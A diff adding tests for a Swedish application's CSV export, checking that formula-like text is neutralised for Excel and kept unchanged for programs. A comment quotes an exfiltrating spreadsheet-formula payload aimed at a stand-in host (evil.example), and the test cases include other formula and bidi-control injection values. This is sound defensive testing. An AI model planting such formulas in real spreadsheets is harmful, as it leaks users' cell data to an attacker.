@@ -2,8 +2,10 @@ import type { INestApplicationContext } from '@nestjs/common';
 import { mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { csvExport, csvField, DECISION_COLUMNS, INITIATIVE_COLUMNS, kronor, LEDGER_COLUMNS, type CsvOptions, type Queries } from '@dgr/application';
+import { csvExport, csvField, DECISION_COLUMNS, excelText, INITIATIVE_COLUMNS, kronor, LEDGER_COLUMNS, type CsvOptions, type Queries } from '@dgr/application';
+import { hasInvisibleControl, visibleText } from '@dgr/domain';
 import { AWKWARD_SOURCE, AWKWARD_TITLE, seedDemoStore } from './testing/demo-store';
+import { BIDI_TITLE, FORMULA_SOURCE, FORMULA_TITLES, hostileHistory, MARKDOWN_TITLE } from './testing/hostile-store';
 
 /** An RFC 4180 reader, written for the test: quoted fields, doubled quotes, separators and line breaks inside quotes. */
 const parseCsv = (text: string, separator: string): string[][] => {
@@ -210,4 +212,94 @@ describe('dgr export --format csv', () => {
     expect(initiatives.map((r) => r.initiativ_id)).toEqual(queries.listInitiatives(asOf).map((i) => i.id));
     expect(initiatives.map((r) => r.status)).toEqual(queries.listInitiatives(asOf).map((i) => i.status));
   });
+});
+
+/** Cells Excel would run as a formula (OWASP: =, +, -, @, tab, carriage return first). */
+const FORMULA = /^[=+\-@\t\r]/;
+/** Columns that hold numbers: whole öre, kronor, counts, the log position. */
+const isNumberColumn = (column: string): boolean => /(_öre|_kr)$/.test(column) || column.startsWith('antal_') || column === 'position';
+
+/**
+ * Issue 17, item 4: a clerk's title `=HYPERLINK("http://evil.example/?"&A1,"klick")` was exported unchanged, and
+ * the Revision page links "för Excel" straight to the file. The CSV for Excel neutralises such text; the CSV for
+ * programs stays lossless; number cells stay numbers.
+ */
+describe('dgr export --format csv: for Excel, no text runs as a formula', () => {
+  const dir = mkdtempSync(join(tmpdir(), 'dgr-csv-hostile-'));
+  let app: INestApplicationContext;
+  let queries: Queries;
+
+  beforeAll(async () => {
+    ({ app, queries } = await seedDemoStore(join(dir, 'dgr.sqlite'), hostileHistory()));
+  }, 120_000);
+
+  afterAll(async () => {
+    await app?.close();
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it.each([
+    ['=HYPERLINK("x")', "'=HYPERLINK(\"x\")"],
+    ['+1', "'+1"],
+    ['-1+2', "'-1+2"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', "'\r=1"],
+    ['\uFF1D1+1', "'\uFF1D1+1"],
+    ['Kompetens = 1 + 2', 'Kompetens = 1 + 2'],
+    ["'redan", "'redan"],
+    ['\u202E=1', '[U+202E]=1'],
+    ['', ''],
+  ])('excelText(%j) is %j', (text, cell) => {
+    expect(excelText(text)).toBe(cell);
+  });
+
+  describe.each<[string, CsvOptions['separator'], boolean | undefined]>([
+    ['";" (for Excel by default)', ';', undefined],
+    ['"," asked for Excel', ',', true],
+  ])('with %s', (_name, separator, excel) => {
+    it('puts a \' before every formula title, keeps the negative amounts numbers, shows the invisible controls', () => {
+      const initiatives = rowsOf(exportOf({ what: 'initiatives', separator, excel }), separator!).rows;
+      for (const title of FORMULA_TITLES) expect(initiatives.map((r) => r.titel)).toContain(`'${title}`);
+      expect(initiatives.map((r) => r.titel)).toContain(visibleText(`${MARKDOWN_TITLE} ${BIDI_TITLE}`));
+      const ledger = rowsOf(exportOf({ what: 'ledger', separator, excel }), separator!).rows;
+      expect(ledger.find((r) => r.källa === `'${FORMULA_SOURCE}`)).toMatchObject({ referens: "'@ref" });
+      const payouts = ledger.filter((r) => r.slag === 'utbetalning');
+      expect(payouts.length).toBeGreaterThan(0);
+      for (const r of payouts) {
+        expect(r.förändring_öre).toMatch(/^-\d+$/);
+        expect(r.förändring_kr).toMatch(separator === ';' ? /^-\d+,\d{2}$/ : /^-\d+\.\d{2}$/);
+      }
+    });
+
+    it.each(['decisions', 'ledger', 'initiatives'] as const)('%s: no cell starts a formula unless it is a number in a number column, none hides a control', (what) => {
+      const text = exportOf({ what, separator, excel });
+      expect(hasInvisibleControl(text.replace(/^\uFEFF/, ''))).toBe(false);
+      const { rows } = rowsOf(text, separator!);
+      expect(rows.length).toBeGreaterThan(0);
+      for (const row of rows)
+        for (const [column, value] of Object.entries(row))
+          if (FORMULA.test(value)) expect([column, isNumberColumn(column), value]).toEqual([column, true, expect.stringMatching(/^-\d+([.,]\d{2})?$/)]);
+    });
+  });
+
+  it.each<[string, CsvOptions['separator'], boolean | undefined]>([
+    ['"," (for programs by default)', ',', undefined],
+    ['tab (for programs by default)', '\t', undefined],
+    ['";" asked for programs', ';', false],
+  ])('for programs, with %s: every text exactly as stored', (_name, separator, excel) => {
+    const titles = rowsOf(exportOf({ what: 'initiatives', separator, excel }), separator!).rows.map((r) => r.titel);
+    expect(titles).toEqual(queries.listInitiatives().map((i) => i.title));
+    for (const title of [...FORMULA_TITLES, `${MARKDOWN_TITLE} ${BIDI_TITLE}`]) expect(titles).toContain(title);
+    const ledger = rowsOf(exportOf({ what: 'ledger', separator, excel }), separator!).rows;
+    expect(ledger.map((r) => r.källa)).toContain(FORMULA_SOURCE);
+  });
+
+  it('has a BOM for Excel and none for programs, unless asked', () => {
+    expect(exportOf({ what: 'ledger', separator: ',', excel: true }).startsWith('\uFEFF')).toBe(true);
+    expect(exportOf({ what: 'ledger', separator: ';', excel: false }).startsWith('\uFEFF')).toBe(false);
+    expect(exportOf({ what: 'ledger', separator: ';', excel: false, bom: true }).startsWith('\uFEFF')).toBe(true);
+  });
+
+  const exportOf = (options: CsvOptions) => csvExport(queries, options);
 });
